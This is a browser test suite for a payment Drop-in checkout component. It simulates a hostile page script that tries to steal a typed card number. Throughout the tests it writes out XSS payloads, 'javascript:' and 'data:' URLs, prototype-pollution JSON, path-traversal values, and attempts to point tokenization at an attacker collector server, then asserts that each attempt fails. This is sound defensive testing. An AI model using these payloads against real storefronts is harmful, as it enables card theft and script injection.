// Drop-in attacked the way a hostile script on the storefront page would, with the shopper's card typed in Drop-in's
// fields: it walks and calls everything reachable from the Drop-in object, its element, the wallet and compliance
// elements; it swaps Drop-in's instance, settings and callbacks; it forges a redirect's return; it hands the
// components hostile strings; it plants its own wallet sheet. Each test ends with no card data and no request at the
// attacker's server (test/attacker-server.mjs), and none in anything the page received. Where a page script can do
// as much on its own (create a source from the typed card at the trusted API, call the storefront's callbacks), the
// test says so and checks that Drop-in gives it nothing more.
import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import type { DrError } from '../../src/api/errors.js';
import type { Source } from '../../src/api/source.js';
import { DigitalRiver } from '../../src/core/digital-river.js';
import type { DropinConfiguration, DropinSuccess } from '../../src/dropin/configuration.js';
import { returnAddresses } from '../../src/dropin/redirect-return.js';
import '../../src/dropin/install.js';
import type { DrCardFieldElement } from '../../src/elements/card-field/card-field.component.js';
import type { DrDropinElement } from '../../src/elements/dropin/dr-dropin.component.js';
import type { RemoteSandbox } from '../../src/sandbox/remote.js';
import { cardDataIn as cardDataOf, settled, walkAndCall, watchPageChannels } from './page-attacker.fixtures.js';
import { frameUrl as sharedFrameUrl, sandboxForTests, typeInto } from './secure-fields.fixtures.js';

// ---- what a script loaded before the library can do: keep the page's end of every channel ----
const { sentOnPorts, received, OriginalChannel } = watchPageChannels();

const PAN = '4444222233331111';
let sandbox: RemoteSandbox;
let attacker: string;
let run = 0;

before(async () => {
  sandbox = await sandboxForTests();
  attacker = ((await (await fetch('/__attacker')).json()) as { origin: string }).origin;
});

/** Frames of a deployment of their own per test: an attack that breaks one test's fields leaves the next alone. */
const frameUrl = () => `${sharedFrameUrl()}?dropin-run=${run}`;
const collector = () => `${attacker}/dropin${run}`;
beforeEach(() => {
  run++;
  received.length = 0;
});

async function attackerLog(): Promise<{ method: string; path: string; body: string }[]> {
  return (await fetch(`${attacker}/__log?run=dropin${run}`)).json();
}

const cardDataIn = (values: unknown[]) => cardDataOf(values, PAN);

/** The storefront's server: a checkout on the test's sandbox, whose payment session Drop-in is given. */
async function checkoutSession(currency = 'EUR', country = 'DE'): Promise<string> {
  const response = await fetch(`${sandbox.url}/checkouts`, {
    method: 'POST',
    headers: { Authorization: 'Bearer sk_test_dropin_attacks', 'Content-Type': 'application/json' },
    body: JSON.stringify({ currency, items: [{ quantity: 1, price: 120 }], billTo: { address: { country } } }),
  });
  return ((await response.json()) as { payment: { session: { id: string } } }).payment.session.id;
}

const digitalRiver = (apiBaseUrl = sandbox.url) => new DigitalRiver('pk_test_dropin_attacks', { apiBaseUrl, frameUrl: frameUrl() });

let mounts = 0;

/** Drop-in mounted and ready, with what its callbacks got. */
async function mountedDropin(configuration: Partial<DropinConfiguration>, dr = digitalRiver()) {
  const container = await fixture<HTMLElement>(html`<div id=${`dropin-${++mounts}`}></div>`);
  const outcomes = { success: [] as DropinSuccess[], error: [] as unknown[], cancel: [] as unknown[], ready: 0 };
  const dropin = dr.createDropin({
    ...configuration,
    onReady: () => outcomes.ready++,
    onSuccess: (data) => outcomes.success.push(data),
    onError: (data) => outcomes.error.push(data),
    onCancel: (data) => outcomes.cancel.push(data),
  });
  dropin.mount(container.id);
  await waitUntil(() => outcomes.ready > 0, 'onReady', { timeout: 10_000 });
  const element = container.querySelector<DrDropinElement>('dr-dropin')!;
  return { dr, dropin, element, outcomes };
}

/** Types the card into Drop-in's own fields, and waits until the controller frame holds it. */
async function typeCard(element: DrDropinElement): Promise<DrCardFieldElement[]> {
  const fields = [...element.shadowRoot!.querySelectorAll<DrCardFieldElement>('dr-card-number, dr-card-expiration, dr-card-cvv')];
  expect(fields.map((field) => field.localName)).to.deep.equal(['dr-card-number', 'dr-card-expiration', 'dr-card-cvv']);
  for (const [field, text] of [
    [fields[0]!, PAN],
    [fields[1]!, '1234'],
    [fields[2]!, '123'],
  ] as const) {
    await typeInto(field, text);
    await waitUntil(() => field.state.complete, `${field.localName} is complete`);
  }
  const group = fields[0]!.fieldGroup!;
  await waitUntil(async () => !(await group.version()).includes('-'), 'the controller holds the card');
  return fields;
}

/** What console.warn and console.error printed while `act` ran. */
async function consoleOf(act: () => unknown): Promise<string[]> {
  const printed: string[] = [];
  const [warn, error] = [console.warn, console.error];
  console.warn = console.error = (line: unknown) => void printed.push(String(line));
  try {
    await act();
  } finally {
    [console.warn, console.error] = [warn, error];
  }
  return printed;
}

/** A value a hostile script passes where an object is expected: every read, key listing or conversion throws. */
const throwingEverywhere = () =>
  new Proxy(Object.create(null) as object, {
    get: () => {
      throw new Error('hostile get');
    },
    has: () => {
      throw new Error('hostile has');
    },
    ownKeys: () => {
      throw new Error('hostile keys');
    },
    getPrototypeOf: () => {
      throw new Error('hostile prototype');
    },
    getOwnPropertyDescriptor: () => {
      throw new Error('hostile descriptor');
    },
  });

describe('attack on Drop-in: a hostile script on the page', function () {
  this.timeout(60_000);

  // First in this file: the sheet is loaded once per page, and the global planted here cannot be taken off it again.
  it('plants its own wallet sheet (a drSandboxWallet the page cannot delete) before the sheet loads: the wallet still answers, and its sheet gets no card data', async () => {
    const sessionId = await checkoutSession();
    const { element, outcomes } = await mountedDropin({ sessionId, options: { showTermsOfSaleDisclosure: false } });
    await typeCard(element);
    const sheetCalls: unknown[][] = [];
    let genuine: unknown;
    // Documented as possible: a page script can stand in for the sandbox's sheet. Made non-configurable, the loader
    // cannot delete it, which must not leave the wallet hanging.
    Object.defineProperty(window, 'drSandboxWallet', {
      configurable: false,
      get: () => (...args: unknown[]) => {
        sheetCalls.push(args);
        // It accepts at once, as its own shopper, to see what a payment hands it.
        const hooks = args[2] as { accept(choice: unknown): Promise<unknown> };
        const address = { firstName: 'Eve', lastName: 'Attacker', email: 'eve@example.test', phone: '1', address: { line1: '1 Main St', city: 'Berlin', postalCode: '10115', country: 'DE' } };
        void hooks.accept({ billingAddress: address, contactInformation: { name: 'Eve Attacker', email: 'eve@example.test', phone: '1' } }).then((answer) => sheetCalls.push(['accepted', answer]));
        return { close: () => undefined };
      },
      set: (value: unknown) => void (genuine = value),
    });
    const walletHost = element.querySelector('[slot="wallet-googlePay"] > *')!;
    // Google Pay chosen, its own button pressed.
    const choice = element.shadowRoot!.querySelector<HTMLInputElement>('input[value="googlePay"]')!;
    choice.click();
    await waitUntil(() => walletHost.shadowRoot?.querySelector('button'), 'the wallet button');
    walletHost.shadowRoot!.querySelector('button')!.click();
    await waitUntil(() => outcomes.success.length + outcomes.error.length + outcomes.cancel.length > 0, 'the wallet answered', { timeout: 10_000 });
    expect(typeof genuine, 'the genuine sheet loaded').to.equal('function');
    expect(sheetCalls.length).to.be.greaterThan(0);
    // What its sheet got (the wallet's name, the payment request, the hooks) and what the payment gave it.
    expect(cardDataIn([...sheetCalls, outcomes, received])).to.deep.equal([]);
    expect(outcomes.success.map((success) => success.source.type)).to.deep.equal(['googlePay']);
    expect(await attackerLog()).to.deep.equal([]);
  });
  it('calls every function it can reach from Drop-in, its element, the wallets and the compliance section: nothing reaches it', async () => {
    const sessionId = await checkoutSession();
    const { dropin, element } = await mountedDropin({ sessionId, options: { showTermsOfSaleDisclosure: false } });
    const typed = await typeCard(element);
    // The wallets and the compliance section are Drop-in's children, in the page.
    expect(element.querySelectorAll('[slot^="wallet-"]').length, 'wallets placed').to.equal(2);
    expect(element.querySelector('[slot="compliance"]'), 'compliance placed').to.not.equal(null);
    const sourcesBefore = (await sandbox.sources()).length;
    const api = { baseUrl: collector(), publicKey: 'pk_test_attack' };

    // First the controller frame of Drop-in's instance, asked straight away with the attacker's API: to tokenize the
    // typed card (its fields' ids are in their frames' URLs), and for the payment methods.
    const controller = (element.dr as unknown as { controller: { call(request: object): Promise<unknown> } }).controller;
    const idOf = (field: DrCardFieldElement) => new URLSearchParams(new URL(field.shadowRoot!.querySelector('iframe')!.src).hash.slice(1)).get('field')!;
    const fields = Object.fromEntries(typed.map((field) => [field.localName.replace('dr-', '').replace('-', ''), idOf(field)]));
    const direct = await settled([
      controller.call({ call: 'tokenize', fields, api, data: { type: 'creditCard' } }),
      controller.call({ call: 'createSource', fields, api, data: { type: 'creditCard' } }),
      controller.call({ call: 'retrieveAvailablePaymentMethods', api, filters: {} }),
    ]);
    expect(direct.map((answer) => JSON.stringify(answer)).filter((answer) => !answer.includes('api_origin_not_allowed')), 'refused by the frames').to.deep.equal([]);

    const argumentSets: unknown[][] = [
      [api, { type: 'creditCard', sessionId: 'x' }],
      [{ call: 'retrieveAvailablePaymentMethods', api, filters: {} }],
      ['creditCard', { id: 'src_x', state: 'chargeable', redirect: { redirectUrl: 'javascript:alert(1)' } }],
      [{ sourceId: 'src_x', clientSecret: 'secret', paymentMethod: 'payPal', cancelled: false }],
      [collector()],
      [`${collector()}/frame.html`],
    ];
    // Taking the page away (a redirect) or the element off it ends the page's own test, not the frames' defence.
    const skip = ['constructor', 'remove', 'destroy', 'unmount', 'disconnectedCallback', 'close', 'redirect', 'goToProvider'];
    const { seen, calls } = walkAndCall([[dropin, 0], [element, 0], ...[...element.querySelectorAll('*')].map((child): [Element, number] => [child, 1])], argumentSets, skip);
    expect(seen.size, 'objects reached').to.be.greaterThan(15);
    expect(calls.length, 'functions called').to.be.greaterThan(100);
    const results = await settled(calls);
    // Its show() calls opened the wallets' sheets: closed, so that the next test's keys reach the card fields.
    for (const wallet of Object.values((element as unknown as { wallets: Record<string, { destroy(): void }> }).wallets)) wallet.destroy();

    expect(await attackerLog()).to.deep.equal([]);
    expect(cardDataIn([...received, ...results.map((r) => (r.status === 'fulfilled' ? r.value : String(r.reason)))])).to.deep.equal([]);
    // Whatever it made Drop-in create (its submit() with the typed card), only at the API the frames trust.
    expect((await sandbox.sources()).length).to.be.at.least(sourcesBefore);
  });

  it('swaps Drop-in\'s instance, its API, settings and callbacks before the shopper pays: the card goes only to the trusted API, as by its own createSource', async () => {
    const sessionId = await checkoutSession();
    const { dr, element, outcomes } = await mountedDropin({ sessionId, options: { showTermsOfSaleDisclosure: false }, paymentMethodConfiguration: { enabledPaymentMethods: ['creditCard'] } });
    const [number] = await typeCard(element);
    const sourcesBefore = (await sandbox.sources()).length;
    // An instance of its own that points at its server: Drop-in's fields are not that instance's.
    element.dr = digitalRiver(collector());
    await element.submit();
    // Drop-in's own instance, its API choice rewritten (TypeScript's readonly is no wall at run time): the frames
    // refuse the card to any API their deployment does not trust.
    element.dr = dr;
    const choice = (dr as unknown as { apiChoice: { baseUrl: string } }).apiChoice;
    (dr as unknown as { apiChoice: object }).apiChoice = { ...choice, baseUrl: collector() };
    await element.submit();
    (dr as unknown as { apiChoice: object }).apiChoice = choice;
    expect(outcomes.error.map((error) => (error as DrError).errors[0]!.code)).to.deep.equal(['foreign_element', 'api_origin_not_allowed']);
    expect(outcomes.success).to.deep.equal([]);
    expect((await sandbox.sources()).length, 'no source made').to.equal(sourcesBefore);

    // Its own settings (another session, its own onSuccess): the source is made at the trusted API, and what reaches
    // the attacker's callback is the public source (brand, last four, expiry), as its own createSource gives it.
    const stolen: Source[] = [];
    const attackerSession = await checkoutSession('USD', 'US');
    element.settings = { ...element.settings!, sessionId: attackerSession, onSuccess: (data: DropinSuccess) => void stolen.push(data.source) };
    await element.submit();
    expect(stolen.length, JSON.stringify(outcomes.error)).to.equal(1);
    const own = await dr.createSource(number!, { type: 'creditCard' });
    if (!('source' in own)) throw new Error(JSON.stringify(own));
    expect(Object.keys(stolen[0]!.creditCard ?? {}).sort()).to.deep.equal(Object.keys(own.source.creditCard ?? {}).sort());
    expect(stolen[0]!.creditCard).to.deep.include({ lastFourDigits: '1111', expirationMonth: 12, expirationYear: 2034 });
    const atSandbox = (await sandbox.sources()).map((source) => source.id);
    expect(atSandbox).to.include.members([stolen[0]!.id, own.source.id]);

    expect(await attackerLog()).to.deep.equal([]);
    expect(cardDataIn([...received, ...stolen, own, outcomes])).to.deep.equal([]);
  });

  it('hands retrieveAvailablePaymentMethods, createDropin and mount hostile values: each resolves or reports, none throws, nothing reaches it', async () => {
    const dr = digitalRiver();
    const huge = 'U'.repeat(5_000_000);
    const hostileFilters: unknown[] = [
      { currency: huge },
      { sessionId: huge },
      { sessionId: `../../${collector()}` },
      { sessionId: `x?y#${collector()}` },
      JSON.parse('{"__proto__": {"currency": "USD", "polluted": true}, "constructor": {"prototype": {"polluted": true}}}'),
      { currency: { toString: () => 'USD' } },
      { get sessionId(): string {
        throw new Error('read me');
      } },
      throwingEverywhere(),
      Object.create({ sessionId: 'inherited' }),
      [],
      () => ({}),
      Symbol('filters'),
    ];
    const outcomes: unknown[] = [];
    // Every call that threw out of the public API, named.
    const thrown: string[] = [];
    const attempt = (label: string, call: () => unknown): unknown => {
      try {
        return call();
      } catch (error) {
        thrown.push(`${label}: ${error instanceof Error ? error.message : typeof error}`);
        return undefined;
      }
    };
    const printed = await consoleOf(async () => {
      for (const [index, filters] of hostileFilters.entries()) {
        outcomes.push(await attempt(`${index} retrieveAvailablePaymentMethods`, () => dr.retrieveAvailablePaymentMethods(filters as never)));
        // createDropin with the value as its configuration, or in its places.
        for (const configuration of [filters, { sessionId: filters }, { options: filters }, { paymentMethodConfiguration: filters }, { billingAddress: filters }]) {
          attempt(`${index} createDropin`, () => dr.createDropin(configuration as never));
        }
        attempt(`${index} Drop-in mount`, () => dr.createDropin({}).mount(filters as never));
        // The payment elements Drop-in brings, each call of theirs given the value.
        const request = { country: 'US', currency: 'USD', total: { label: 'Total', amount: 1 } };
        for (const [type, options] of [
          ['googlepay', { ...request, style: { buttonType: filters, buttonColor: filters } }],
          ['applepay', filters],
          ['compliance', { compliance: { entity: 'DR_INC-ENTITY', country: 'US', language: filters } }],
          ['delayedpaymentinstructions', filters],
        ] as const) {
          const element = attempt(`${index} createElement('${type}')`, () => dr.createElement(type, options as never)) as
            | { on(event: unknown, fn: unknown): void; update(options: unknown): void; mount(id: unknown): void }
            | undefined;
          attempt(`${index} ${type} on`, () => element?.on(filters, filters));
          attempt(`${index} ${type} update`, () => element?.update(filters));
          attempt(`${index} ${type} mount`, () => element?.mount(filters));
        }
        attempt(`${index} paymentRequest`, () => dr.paymentRequest(filters as never));
        attempt(`${index} Compliance.getDetails`, () => dr.Compliance.getDetails(filters as never));
        attempt(`${index} Compliance.getDetails language`, () => dr.Compliance.getDetails({ businessEntityCode: 'DR_INC-ENTITY', country: 'US', language: filters } as never));
      }
    });
    expect(thrown).to.deep.equal([]);
    // Each call resolved, typed: an error for a value of the wrong type or an unknown session; the keys of a parsed
    // `__proto__` object are unknown filters, warned about and left out, so that one answers unfiltered.
    expect(outcomes.map((outcome) => Object.keys(outcome as object).join())).to.deep.equal([
      'error', 'error', 'error', 'error', 'paymentMethods', 'error', 'error', 'error', 'error', 'error', 'error', 'error',
    ]);
    expect(printed.some((line) => line.includes('"__proto__"'))).to.equal(true);
    expect(({} as { polluted?: boolean }).polluted).to.equal(undefined);
    // The console said why, in a bounded line (not five million characters).
    expect(printed.length).to.be.greaterThan(0);
    expect(Math.max(...printed.map((line) => line.length))).to.be.lessThan(2000);

    expect(await attackerLog()).to.deep.equal([]);
  });

  it('forges a redirect\'s return (the marker alone, a planted entry naming another source and its own address): Drop-in reports only what the API says of a source of that method, and goes nowhere', async () => {
    const withMarker = (outcome: string) => {
      const url = new URL(location.href);
      url.searchParams.set('drDropinRedirect', outcome);
      history.replaceState(history.state, '', url.href);
    };
    const sessionId = await checkoutSession();
    const card = { paymentMethodConfiguration: { enabledPaymentMethods: ['creditCard'] }, options: { showTermsOfSaleDisclosure: false } };
    // A forged link: the marker, nothing kept in this tab. The marker leaves the address, nothing is reported.
    withMarker('return');
    const forged = await mountedDropin({ sessionId, ...card });
    expect(location.search).to.not.include('drDropinRedirect');
    expect([forged.outcomes.success, forged.outcomes.error, forged.outcomes.cancel]).to.deep.equal([[], [], []]);

    // A planted entry: a chargeable card source of its own, named as a PayPal payment, with its own address to go to.
    const own = await digitalRiver().createSource({ type: 'creditCard', creditCard: { number: '5466160000000008', expirationMonth: 1, expirationYear: 2031, cvv: '123' } });
    if (!('source' in own)) throw new Error(JSON.stringify(own));
    const went = window as { attackerRan?: boolean };
    const planted = { sourceId: own.source.id, clientSecret: own.source.clientSecret, paymentMethod: 'payPal', redirectUrl: 'javascript:window.attackerRan=true', returnUrl: `${collector()}/back` };
    sessionStorage.setItem('dr-dropin-redirect', JSON.stringify(planted));
    withMarker('return');
    const plantedDropin = await mountedDropin({ sessionId, ...card });
    await waitUntil(() => plantedDropin.outcomes.error.length + plantedDropin.outcomes.success.length > 0, 'the return reported');
    // Not "PayPal approved" with a card's source: a source of another method is no PayPal payment.
    expect(plantedDropin.outcomes.success).to.deep.equal([]);
    expect((plantedDropin.outcomes.error[0] as { paymentMethod: string }).paymentMethod).to.equal('payPal');
    expect(sessionStorage.getItem('dr-dropin-redirect'), 'the entry is used once').to.equal(null);
    expect(went.attackerRan).to.equal(undefined);

    // The storefront's own addresses as javascript: or data: are refused; Drop-in's own are this page's, http(s).
    const printed = await consoleOf(async () => {
      const hostile = await mountedDropin({
        sessionId,
        ...card,
        options: { showTermsOfSaleDisclosure: false, redirect: { disableAutomaticRedirects: true, returnUrl: 'javascript:window.attackerRan=true', cancelUrl: 'data:text/html,<script>parent.attackerRan=true</script>' } },
      });
      expect(hostile.element.settings!.redirect).to.deep.equal({ automatic: true });
    });
    expect(printed.some((line) => line.includes('disableAutomaticRedirects needs returnUrl and cancelUrl'))).to.equal(true);
    const { returnUrl, cancelUrl } = returnAddresses();
    expect([new URL(returnUrl).origin, new URL(cancelUrl).origin]).to.deep.equal([location.origin, location.origin]);
    expect(went.attackerRan).to.equal(undefined);
    expect(await attackerLog()).to.deep.equal([]);
  });

  it('feeds hostile strings (markup, bidi overrides, a huge value) to the payment instructions and the compliance section: text, never markup, kept in their box', async () => {
    const container = await fixture<HTMLElement>(html`<div style="width: 400px"><div id="instructions"></div><div id="compliance"></div></div>`);
    const dr = digitalRiver();
    const markup = '<img src=x onerror="window.attackerRan=true"><script>window.attackerRan=true</script>';
    const bidi = '\u202EtnuoccA\u202C IBAN \u2067DE89\u2069';
    const huge = 'Z'.repeat(200_000);
    // A page script can answer the element's retrieveSource itself: that is also what a hostile API answer looks like.
    (dr as unknown as { retrieveSource: () => Promise<unknown> }).retrieveSource = async () => ({
      source: { id: 'src_x', type: 'wireTransfer', state: 'pending_funds', amount: huge, currency: markup, wireTransfer: { accountHolder: markup, bankName: bidi, iban: huge, referenceId: '\u0000\uFFFF' } },
    });
    const instructions = dr.createElement('delayedpaymentinstructions', { sourceId: 'src_x', sourceClientSecret: 'secret' });
    const ready = new Promise((resolve) => instructions.on('ready', resolve));
    instructions.mount('instructions');
    await ready;
    const root = container.querySelector('#instructions > *')!.shadowRoot!;
    expect(root.querySelectorAll('img, script, iframe').length).to.equal(0);
    const values = [...root.querySelectorAll('dd')].map((dd) => dd.textContent);
    expect(values).to.deep.equal([markup, bidi, huge, '\u0000\uFFFF']);
    // Each value in its own direction and box: an override does not reorder its label, a huge value wraps in the page's width.
    for (const dd of root.querySelectorAll('dd')) expect(dd.dir).to.equal('auto');
    expect(root.querySelector('dl')!.getBoundingClientRect().width).to.be.at.most(400);

    // The compliance section: an entity of markup is refused; a javascript: page for Japan is not a link.
    dr.createElement('compliance', { compliance: { entity: markup, country: 'JP', language: 'en' } }).mount('compliance');
    // A language names the disclosures' script to load: only one of the frames' own, never an address of its choosing.
    for (const language of [`../../${collector()}/texts`, `${collector()}/texts.js`, '__proto__']) {
      dr.createElement('compliance', { compliance: { entity: 'DR_IRELAND-ENTITY', country: 'DE', language } }).mount('compliance');
    }
    const compliance = dr.createElement('compliance', { compliance: { entity: 'DR_JAPAN-ENTITY', country: 'JP', language: 'en', jpCommerceLawPageUrl: 'javascript:window.attackerRan=true' } });
    const shown = new Promise((resolve) => compliance.on('ready', resolve));
    compliance.mount('compliance');
    await shown;
    // The refused one (mounted first, in the same container) shows nothing at all.
    expect(container.querySelector('#compliance > *')!.shadowRoot!.children.length).to.equal(0);
    const links = [...container.querySelectorAll('#compliance > *')].flatMap((host) => [...(host.shadowRoot?.querySelectorAll('a') ?? [])]);
    expect(links.length).to.be.greaterThan(0);
    expect(links.map((a) => new URL(a.href).protocol).filter((protocol) => protocol !== 'https:')).to.deep.equal([]);
    expect(container.querySelectorAll('img, script').length).to.equal(0);
    expect((window as { attackerRan?: boolean }).attackerRan).to.equal(undefined);
    // No request to the attacker was even started (the page's resource timings list every one).
    expect(performance.getEntriesByType('resource').filter((entry) => entry.name.startsWith(attacker) && !entry.name.includes('/__log'))).to.deep.equal([]);
    expect(await attackerLog()).to.deep.equal([]);
  });

  it('replays every message Drop-in\'s page sent (the payment methods\' call among them) with its own API and ports: nothing reaches it', async () => {
    const sessionId = await checkoutSession();
    sentOnPorts.length = 0;
    const { element } = await mountedDropin({ sessionId, options: { showTermsOfSaleDisclosure: false } });
    await typeCard(element);
    const sent = [...sentOnPorts];
    expect(sent.some(({ data }) => (data as { call?: string }).call === 'retrieveAvailablePaymentMethods'), 'the payment methods asked for').to.equal(true);
    let id = 50_000;
    const answered = (port: MessagePort, message: Record<string, unknown>) =>
      new Promise((resolve) => {
        const mine = ++id;
        const listen = (event: MessageEvent) => (event.data as { id?: number })?.id === mine && resolve(event.data);
        port.addEventListener('message', listen);
        const theirs = new OriginalChannel();
        theirs.port1.onmessage = (event) => received.push(event.data);
        port.postMessage({ ...message, id: mine }, [theirs.port2]);
        // A request the frame ignores gets no answer: give up after the library's own frame timeout.
        setTimeout(() => resolve('no answer'), 3000);
      });
    const replays: Promise<unknown>[] = [];
    for (const { port, data } of sent) {
      const message = data as Record<string, unknown>;
      replays.push(answered(port, message));
      if (message.api) replays.push(answered(port, { ...message, api: { ...(message.api as object), baseUrl: collector() } }));
      if (message.call === 'retrieveAvailablePaymentMethods') {
        for (const filters of [{ sessionId: `../../..${new URL(collector()).pathname}` }, { currency: `${collector()}` }, { ['__proto__']: { baseUrl: collector() } }]) {
          replays.push(answered(port, { ...message, filters }));
        }
      }
    }
    const answers = await Promise.all(replays);
    expect(await attackerLog()).to.deep.equal([]);
    expect(cardDataIn([...received, ...answers])).to.deep.equal([]);
  });
});
